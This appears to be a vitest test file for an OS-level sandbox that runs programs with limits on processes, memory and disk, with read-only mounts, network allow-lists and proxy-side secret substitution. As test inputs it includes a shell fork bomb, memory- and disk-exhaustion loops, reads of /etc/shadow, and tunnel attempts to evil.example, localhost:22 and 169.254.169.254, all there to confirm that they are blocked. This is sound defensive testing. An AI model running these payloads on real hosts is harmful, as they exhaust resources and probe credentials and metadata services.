import { chmod, mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { readdirSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { SandboxedChild, SandboxExit, IsolatedSandboxConfig, SpawnRequest } from "@bailiwick/core";
import { describe, expect, onTestFinished, test, vi } from "vitest";

import { secretsFactory } from "../../index.ts";
import { secrets } from "../../index.ts";
import { createSandbox } from "../create-sandbox.ts";

const often = { interval: 20 };
const { spawn } = createSandbox();

type Terms = Omit<IsolatedSandboxConfig, "tier"> & Pick<SpawnRequest, "cwd" | "signal" | "fetch">;

async function start(
  command: string,
  args: readonly string[],
  { cwd, signal, fetch, ...config }: Terms = {},
): Promise<SandboxedChild> {
  const child = await spawn({
    command,
    args,
    cwd,
    signal,
    fetch,
    config: { tier: "os", ...config },
    trustClass: "first-party-user-defined",
    saidBy: "operator",
  });
  onTestFinished(async () => void (await child.kill()));
  return child;
}

async function textOf(stream: AsyncIterable<Uint8Array>): Promise<string> {
  const decoder = new TextDecoder();
  let text = "";
  for await (const piece of stream) text += decoder.decode(piece, { stream: true });
  return text;
}

/** Starts a program without input, and waits for its end. */
async function run(
  command: string,
  args: readonly string[],
  terms?: Terms,
): Promise<{ readonly exit: SandboxExit; readonly output: string; readonly errors: string }> {
  const child = await start(command, args, terms);
  child.closeInput();
  const [output, errors, exit] = await Promise.all([textOf(child.output), textOf(child.errors), child.exited]);
  return { exit, output, errors };
}

const node = (program: string, terms?: Terms): ReturnType<typeof run> => run("node", ["-e", program], terms);

describe("a program", () => {
  test("a program reads and writes its standard streams and ends with its code [sandbox.os]", async () => {
    const child = await start("sh", ["-c", `while read line; do echo "got $line"; done; echo sorry >&2; exit 3`]);
    await child.write(new TextEncoder().encode("one\n"));
    await child.write(new TextEncoder().encode("two\n"));
    child.closeInput();
    expect(await textOf(child.output)).toBe("got one\ngot two\n");
    expect(await textOf(child.errors)).toBe("sorry\n");
    expect(await child.exited).toEqual({ code: 3, signal: null });
    await expect(child.write(new Uint8Array([1]))).rejects.toBeInstanceOf(Error);
    expect(await child.kill()).toEqual({ code: 3, signal: null });
  });

  test("a program sees only the system's programs: no settings, home folders, other processes or environment [sandbox.os]", async () => {
    const { output } = await node(`
      const fs = require("node:fs");
      const there = (name) => { try { fs.readdirSync(name); return true; } catch { return false; } };
      console.log(JSON.stringify({
        user: process.getuid(), env: Object.keys(process.env).toSorted(), there: ["/usr", "/home", "/root", "/var", "/sys", "/run"].filter(there),
        secrets: ["/etc/passwd", "/etc/shadow", "/etc/hosts"].filter((name) => fs.existsSync(name)),
        processes: fs.readdirSync("/proc").filter((name) => Number(name) > 0).length,
        child: require("node:child_process").spawnSync("echo", ["hello"]).stdout.toString(),
      }));`);
    expect(JSON.parse(output)).toEqual({
      user: 65534,
      env: ["HOME", "PATH", "PWD", "TMPDIR"],
      there: ["/usr"],
      secrets: [],
      processes: expect.any(Number) as number,
      child: "hello\n",
    });
    expect((JSON.parse(output) as { processes: number }).processes).toBeLessThan(8);
  });

  test("a granted folder is available, also as the working folder [sandbox.os]", async () => {
    const folder = await mkdtemp(join(tmpdir(), "bailiwick-program-"));
    onTestFinished(() => rm(folder, { recursive: true, force: true }));
    await writeFile(join(folder, "file"), "content");
    await expect(start("cat", ["file"], { cwd: folder })).rejects.toMatchObject({ code: "SANDBOX_UNAVAILABLE" });
    const { output, errors } = await run("sh", ["-c", "cat file; touch new"], {
      cwd: folder,
      allowFS: { readOnly: [folder] },
    });
    expect([output, errors]).toEqual(["content", expect.stringContaining("Read-only") as string]);
    expect(readdirSync(folder)).toEqual(["file"]);
  });

  test("a missing program is not started [sandbox.os]", async () => {
    await expect(start("no-such-program", [])).rejects.toMatchObject({ code: "SANDBOX_SPAWN_FAILED" });
    await expect(start("./relative", [])).rejects.toMatchObject({ code: "SANDBOX_SPAWN_FAILED" });
    await expect(start("/usr", [])).rejects.toMatchObject({ code: "SANDBOX_SPAWN_FAILED" });
  });

  test("a program ends with all its child processes, however it ends [sandbox.os]", async () => {
    const bad = `sleep 1000 & setsid sleep 1000 & (setsid sh -c 'trap "" TERM HUP INT; while :; do sleep 1; done' &) ; echo started; wait`;
    const killed = await start("sh", ["-c", bad]);
    const given = new AbortController();
    const aborted = await start("sh", ["-c", bad], { signal: given.signal });
    const first = await start("sh", ["-c", bad.replace("wait", "exit 7")]);
    for (const child of [killed, aborted]) {
      for await (const piece of child.output) if (new TextDecoder().decode(piece).includes("started")) break;
    }
    given.abort();
    expect(await killed.kill()).toEqual({ code: null, signal: "SIGKILL" });
    expect(await aborted.exited).toEqual({ code: null, signal: "SIGKILL" });
    expect(await first.exited).toEqual({ code: 7, signal: null });
    // A process that is still alive would keep the streams open.
    await textOf(first.output);
  });

  test("unread stderr is kept up to a limit, newest first, and does not block the process [sandbox.os]", async () => {
    const child = await start("node", [
      "-e",
      `for (let i = 0; i < 40000; i += 1) require("node:fs").writeSync(2, "line " + i + " of unread output\\n");`,
    ]);
    child.closeInput();
    expect(await child.exited).toEqual({ code: 0, signal: null });
    const errors = await textOf(child.errors);
    expect(errors.length).toBeLessThanOrEqual(256 * 1024 + 65_536);
    expect(errors.endsWith("line 39999 of unread output\n")).toBe(true);
  });
});

describe("limits of a program", () => {
  test("a fork bomb reaches the process limit, and ends with its sandbox [sandbox.os]", async () => {
    // The first process only reads after its one fork: a fork that fails in it would end it, and the sandbox, by itself.
    const child = await start("sh", ["-c", `bomb() { bomb | bomb & }; (bomb) & read line`]);
    let errors = "";
    for await (const piece of child.errors) {
      errors += new TextDecoder().decode(piece);
      if (errors.includes("fork")) break;
    }
    expect(errors).toMatch(/cannot fork/iu);
    expect(await child.kill()).toEqual({ code: null, signal: "SIGKILL" });
  });

  test("processes that exceed the memory limit together are killed [sandbox.os]", async () => {
    const program = `const { spawn } = require("node:child_process");
      const hold = "const all = []; setInterval(() => { if (all.length < 12) all.push(Buffer.alloc(4e6, 1)); }, 5)";
      for (let i = 0; i < 4; i += 1) spawn(process.execPath, ["-e", hold]); setInterval(() => {}, 1000);`;
    const child = await start("node", ["-e", program], { maxMemoryMB: 160 });
    expect(await child.exited).toEqual({ code: null, signal: "SIGKILL", limit: { kind: "memory", most: 160 } });
  });

  test("a program that fills its writable folders or /tmp ends, and its exit names the limit [sandbox.os.limits]", async () => {
    const folder = await writableFolder();
    const fill = (place: string): string =>
      `i=0; while :; do head -c 300000 /dev/zero > ${place}/f$i || exit 9; i=$((i+1)); done`;
    const config = { allowFS: { readWrite: [folder] }, maxDiskMB: 8, maxFileMB: 1 };
    const disk = await start("sh", ["-c", fill(folder)], config);
    expect((await disk.exited).limit).toEqual({ kind: "disk", most: 8 });
    const files = await start("sh", ["-c", `i=0; while :; do : > ${folder}/e$i; i=$((i+1)); done`], config);
    expect((await files.exited).limit).toEqual({ kind: "disk", most: 8 });
    const large = await run(
      "sh",
      ["-c", `head -c 2000000 /dev/zero > ${folder}/large; wc -c < ${folder}/large`],
      config,
    );
    expect(Number(large.output)).toBeLessThanOrEqual(1024 * 1024);
    const temporary = await run("sh", ["-c", "head -c 9000000 /dev/zero > /tmp/x; wc -c < /tmp/x"], {
      maxTemporaryMB: 4,
    });
    expect(Number(temporary.output)).toBeLessThanOrEqual(4 * 1024 * 1024);
  });

  test("maxProcesses replaces the default number of processes [sandbox.os.limits]", async () => {
    const program = `i=0; while [ $i -lt 12 ]; do sleep 5 & i=$((i+1)); done; echo all`;
    expect((await run("sh", ["-c", program], { maxProcesses: 8 })).output).toBe("");
  });
});

/** A folder that the sandbox's user may write also if root starts it. */
async function writableFolder(): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), "bailiwick-writable-"));
  onTestFinished(() => rm(folder, { recursive: true, force: true }));
  await chmod(folder, 0o777);
  return folder;
}

describe("mounts and loopback", () => {
  test("a folder is mounted at another path, and only a writable mount can be written [sandbox.os.mounts]", async () => {
    const [own, other] = [await writableFolder(), await writableFolder()];
    await writeFile(join(other, "given"), "given");
    const mounts = [
      { source: own, target: "/workspace" },
      { source: other, target: "/workspace/parts", readOnly: true },
    ];
    await mkdir(join(own, "parts"));
    const { output, errors } = await run(
      "sh",
      ["-c", `pwd; cat parts/given; echo new > made; echo no > parts/made; ls ${own}`],
      { cwd: "/workspace", allowFS: { mounts } },
    );
    expect(output).toBe("/workspace\ngiven");
    expect(errors).toMatch(/parts\/made.*Read-only/u);
    expect(errors).toContain("No such file");
    expect(readdirSync(own).toSorted()).toEqual(["made", "parts"]);
    expect(readdirSync(other)).toEqual(["given"]);
  });

  test.each(["/usr/lib", "/proc/self", "/", "/tmp", "relative", "/etc"])(
    "nothing is mounted at %s [sandbox.os.mounts]",
    async (target) => {
      const mounts = [{ source: await writableFolder(), target }];
      await expect(start("true", [], { allowFS: { mounts } })).rejects.toMatchObject({ code: "SANDBOX_UNAVAILABLE" });
    },
  );

  test("with loopback, programs serve each other and reach no port of the host [sandbox.os.loopback]", async () => {
    const { host, heard } = await listening();
    const program = `
      const http = require("node:http"); const { execFile } = require("node:child_process");
      const server = http.createServer((_, response) => response.end("inside")).listen(0, "127.0.0.1", () => {
        const ask = 'const get = (url) => fetch(url).then((r) => r.text(), () => "refused"); Promise.all(process.argv.slice(1).map(get)).then((all) => console.log(all.join(" ")))';
        execFile(process.execPath, ["-e", ask, "http://127.0.0.1:" + server.address().port, "http://${host}"], (error, stdout) => { console.log(stdout.trim()); server.close(); });
      }).on("error", (error) => console.log(error.code));`;
    expect((await node(program, { allowNetwork: { loopback: true } })).output).toBe("inside refused\n");
    expect((await node(program)).output).toBe("EPERM\n");
    expect(heard).toEqual([]);
  });
});

interface Heard {
  readonly url: string | undefined;
  readonly authorization: string | undefined;
}

async function listening(): Promise<{ readonly host: string; readonly heard: Heard[] }> {
  const heard: Heard[] = [];
  const server = createServer((request, response) => {
    heard.push({ url: request.url, authorization: request.headers.authorization });
    if (request.url === "/hop") response.writeHead(302, { location: "/after" });
    if (request.url === "/out") response.writeHead(302, { location: "http://localhost:1/" });
    response.end("answered");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  return { host: `127.0.0.1:${(server.address() as AddressInfo).port}`, heard };
}

const tryAll = (urls: readonly string[], header = ""): string => `
  const ask = (url) => fetch(url, ${header === "" ? "{}" : `{ headers: { authorization: ${header} } }`}).then(async (response) => response.status + " " + await response.text(), (error) => error.message);
  (async () => { const all = []; for (const url of ${JSON.stringify(urls)}) all.push(await ask(url)); console.log(JSON.stringify(all)); })();`;

describe("granted hosts of a program", () => {
  test("a program reaches only the granted hosts, also through redirects [sandbox.os]", async () => {
    const { host, heard } = await listening();
    const urls = ["/", "/hop", "/out"].map((path) => `http://${host}${path}`);
    const { output } = await node(
      tryAll([...urls, `http://localhost:${host.split(":")[1]}/`, "https://no-such-host.example/"]),
      { allowNetwork: [host] },
    );
    const refused = expect.stringContaining("not among those that this sandbox may reach") as string;
    expect(JSON.parse(output)).toEqual(["200 answered", "200 answered", refused, refused, refused]);
    expect(heard.map(({ url }) => url)).toEqual(["/", "/hop", "/after", "/out"]);
  });

  test("a program's markers are replaced outside, in requests to the bound host, and the value never enters the sandbox [secrets.header]", async () => {
    const [{ host, heard }, other] = [await listening(), await listening()];
    const port = secretsFactory()(secrets({ KEY: { from: () => "sk-value-of-the-key", hosts: [host] } }));
    const access = port.accessFor({ toolName: "t", toolCallId: "c", allowed: ["KEY"], record: () => undefined });
    const marker = (await access.secrets.require("KEY")).header("Bearer {}");
    const program = `${tryAll([`http://${host}/`, `http://${other.host}/`], "process.env.KEY")} console.error(JSON.stringify(process.env));`;
    const { output, errors } = await node(program, {
      allowNetwork: [host, other.host],
      env: { KEY: marker },
      fetch: access.fetch,
    });
    expect(JSON.parse(output)).toEqual([
      "200 answered",
      expect.stringContaining(`may not be sent to "${other.host}"`) as string,
    ]);
    expect(heard).toEqual([{ url: "/", authorization: "Bearer sk-value-of-the-key" }]);
    expect(other.heard).toEqual([]);
    expect(errors).not.toContain("sk-value-of-the-key");
  });

  test("a tunnel reaches only a granted host, and no marker in it is replaced [secrets.header]", async () => {
    const { host, heard } = await listening();
    const port = secretsFactory()(secrets({ KEY: { from: () => "sk-value-of-the-key", hosts: [host] } }));
    const access = port.accessFor({ toolName: "t", toolCallId: "c", allowed: ["KEY"], record: () => undefined });
    const marker = (await access.secrets.require("KEY")).header();
    const program = `
      const http = require("node:http"); const proxy = new URL(process.env.HTTPS_PROXY);
      const tunnel = (path) => new Promise((resolve) => http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path, agent: false })
        .on("connect", (response, socket) => { if (response.statusCode !== 200) { socket.destroy(); return resolve(response.statusCode); }
          socket.write("GET /tunnel HTTP/1.0\\r\\nauthorization: " + process.env.KEY + "\\r\\n\\r\\n"); let text = ""; socket.on("data", (piece) => { text += piece; }).on("end", () => resolve(text.split("\\r\\n\\r\\n")[1])); }).end());
      (async () => { const all = []; for (const path of ["${host}", "localhost:22", "evil.example:443", "169.254.169.254:80"]) all.push(await tunnel(path)); console.log(JSON.stringify(all)); })();`;
    const { output } = await node(program, { allowNetwork: [host], env: { KEY: marker }, fetch: access.fetch });
    expect(JSON.parse(output)).toEqual(["answered", 403, 403, 403]);
    expect(heard).toEqual([{ url: "/tunnel", authorization: marker }]);
  });

  test("the proxy and its folder are removed with the program [sandbox.os]", async () => {
    const own = await mkdtemp(join(tmpdir(), "bailiwick-own-"));
    onTestFinished(() => rm(own, { recursive: true, force: true }));
    await chmod(own, 0o755);
    vi.stubEnv("TMPDIR", own);
    onTestFinished(() => void vi.unstubAllEnvs());
    const { host } = await listening();
    const child = await start("node", ["-e", "setInterval(() => {}, 1000)"], { allowNetwork: [host] });
    expect(readdirSync(own)).toEqual([expect.stringContaining("bailiwick-proxy-")]);
    await child.kill();
    await expect.poll(() => readdirSync(own), often).toEqual([]);
    await expect(start("no-such-program", [], { allowNetwork: [host] })).rejects.toMatchObject({
      code: "SANDBOX_SPAWN_FAILED",
    });
  });
});
